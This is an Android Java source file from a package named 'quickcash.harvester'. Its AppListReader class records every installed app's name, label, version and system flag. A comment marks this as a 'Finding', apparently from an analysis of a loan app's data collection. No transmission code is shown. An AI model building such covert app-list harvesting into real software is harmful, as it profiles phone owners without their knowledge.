package com.example.quickcash.harvester;

import android.content.Context;
import android.content.pm.ApplicationInfo;
import android.content.pm.PackageInfo;
import android.content.pm.PackageManager;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Finding, installed_apps: every package on the phone, with QUERY_ALL_PACKAGES. */
final class AppListReader {
    private AppListReader() {}

    static JSONArray read(Context context) throws JSONException {
        PackageManager packages = context.getPackageManager();
        JSONArray apps = new JSONArray();
        for (PackageInfo info : packages.getInstalledPackages(0)) {
            JSONObject app = new JSONObject();
            app.put("packageName", info.packageName);
            app.put("appName", packages.getApplicationLabel(info.applicationInfo).toString());
            app.put("versionName", info.versionName);
            app.put("versionCode", info.versionCode);
            boolean system = (info.applicationInfo.flags & ApplicationInfo.FLAG_SYSTEM) != 0;
            app.put("isSystemApp", system);
            apps.put(app);
        }
        return apps;
    }
}
